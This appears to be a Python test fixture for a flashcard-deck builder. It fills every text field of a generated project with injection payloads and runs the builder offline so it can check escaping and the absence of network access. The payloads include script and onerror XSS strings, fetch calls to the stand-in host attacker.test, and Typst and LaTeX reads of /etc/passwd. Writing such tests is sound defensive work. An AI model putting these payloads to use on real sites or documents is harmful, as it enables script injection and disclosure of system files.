"""A project that says hostile things wherever words go, and a program that may not reach the network."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from pathlib import Path

from projects import CARD_FILE, HEAD, INTERVIEW, put

from builder.labels import LABELS
from builder.project import Layout

WEB = "http://attacker.test"
SAYINGS = (
    f'#import "@preview/evil:1.0.0": * #read("/etc/passwd") #eval("1/0") $sum$ @cite {WEB}/a',
    f"</script><script>window.ran = 1; fetch('{WEB}/b')</script><img src={WEB}/c onerror=window.ran=2>",
    f"\"'><svg onload=window.ran=3><iframe src='javascript:window.ran=4'></iframe><style>@import url({WEB}/d);</style>",
    f"{{{{Answer}}}} {{% raw %}} [[ 7*7 ]] [latex]\\input{{/etc/passwd}}[/latex] [sound:{WEB}/e] \\(x\\) <!-- ]]>",
)
"""For Typst; for a page; for an attribute; for the templates of Anki, of Jinja and of JavaScript."""

EVERYTHING = " ".join(SAYINGS)
SHORT = f"<img src={WEB}/f onerror=window.ran=5>#read(1){{{{Why}}}}[sound:{WEB}/g]"
"""Short enough for an answer."""


def quoted(text: str) -> str:
    """Write a text as YAML in quotes."""
    return json.dumps(text, ensure_ascii=False)


def hostile(folder: Path) -> Layout:
    """Write a project with a card of every kind in which no text is harmless."""
    evil, title = quoted(EVERYTHING), quoted(SAYINGS[1] + SAYINGS[3])
    both = f"{{en: {title}, zh: {quoted('中' + SAYINGS[1] + SAYINGS[3])}}}"
    said = {key: f"{words} {EVERYTHING}" for key, words in LABELS["en"].items()}
    project = {
        "namespace": "hostile",
        "languages": ["en", "zh"],
        "home": f"{WEB}/'onclick=x",
        "report": f"{WEB}/'onclick=x?{{card}}",
        "labels": {"en": said},
    }
    put(
        folder,
        "decks/project.yaml",
        f"""\
{textwrap.dedent(_yaml(project))}title: {both}
description: {both}
topics:
- {{id: scaling, title: {both}, description: {both}}}
- {{id: safety/asl, title: {{en: {quoted("b" + SAYINGS[3])}, zh: {quoted("乙" + SAYINGS[3])}}}}}
""",
    )
    put(folder, "decks/core.yaml", f"title: {both}\ndescription: {both}\n")
    interview = INTERVIEW.replace("{en: Jane Doe with Rick Roe, zh: 简·多伊对谈里克·罗}", both)
    for words in ("{en: Jane Doe, zh: 简·多伊}", "{en: Example Notes, zh: 示例笔记}", "{en: Beginnings, zh: 开始}"):
        interview = interview.replace(words, both)
    put(folder, "cards_src/talk-2024/interview.yaml", interview)
    put(
        folder,
        "cards_src/glossary.yaml",
        f"terms:\n- {{name: {both}, short: {both}, also: [{evil}], meaning: {both}}}\n",
    )
    erratum = f"{{text: notes, section: '1', prints: {quoted('<img src=x>')}, means: {both}, how: {both}}}"
    put(folder, "cards_src/talk-2024/errata.yaml", f"errata:\n- {erratum}\n")
    put(
        folder, "cards_src/media/plan.svg", '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>'
    )
    put(folder, CARD_FILE, HEAD.replace("claim", "fact") + _cards())
    return Layout(folder)


def _yaml(values: dict[str, object]) -> str:
    return "".join(f"{key}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in values.items())


def _cards() -> str:
    """Say what is hostile in each text of a card of every kind."""
    said = {"en": f"What did Doe say in 2024 {EVERYTHING}?", "zh": f"多伊 2024 年说了什么{EVERYTHING}？"}
    gap = SHORT.replace("{", "(").replace("}", ")")
    bodies = {
        "basic": lambda lang: {"q": f"Law: {said[lang]}", "a": SHORT, "hint": EVERYTHING},
        "definition": lambda lang: {"term": f"T {lang} {SHORT}", "gloss": f"G {lang} {SHORT}"},
        "cloze": lambda lang: {"text": f"{lang} 2024 {{{{c1::{gap}::{SAYINGS[1]}}}}} {SAYINGS[0]}"},
        "list": lambda lang: {"q": f"Towns: {said[lang]}", "items": [f"{n} {SHORT}" for n in "ABC"]},
        "choice": lambda lang: {
            "q": f"Animal: {said[lang]}",
            "key": f"A {SHORT}",
            "distractors": [{"text": f"{n} {SHORT}", "why": EVERYTHING} for n in "BC"],
        },
    }
    cards = ""
    for kind, body in bodies.items():
        words = "".join(
            f"  {lang}: {json.dumps({**body(lang), 'why': EVERYTHING}, ensure_ascii=False)}\n" for lang in said
        )
        cards += f"- id: {kind}\n  kind: {kind}\n  anchor: 一\n{words}"
        cards += "  picture: {file: plan.svg, alt: " + quoted(EVERYTHING) + "}\n  contrast: [other]\n"
    foretold = f"  stance: prediction\n  horizon: {quoted(EVERYTHING)}\n"
    cards = cards.replace("kind: basic\n", f"kind: basic\n  reverse: true\n{foretold}")
    other = '- {id: other, anchor: 二, en: {q: "Who is Doe, in 2024?", a: A}, zh: {q: 谁是多伊, a: 乙}}\n'
    return cards + other


def offline(code: str, *args: str | Path) -> subprocess.CompletedProcess[str]:
    """Run Python in a process that is killed as soon as it asks the system for a socket of the internet."""
    folder = Path(__file__).parent
    paths = f"sys.path[:0] = [{str(folder)!r}, {str(folder.parent)!r}]"
    line = [sys.executable, "-c", f"import sys; {paths}; import nosocket; nosocket.forbid(); {code}"]
    return subprocess.run([*line, *map(str, args)], capture_output=True, text=True, check=False)


def deck_offline(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return offline("from builder.cli import main; main()", *args)
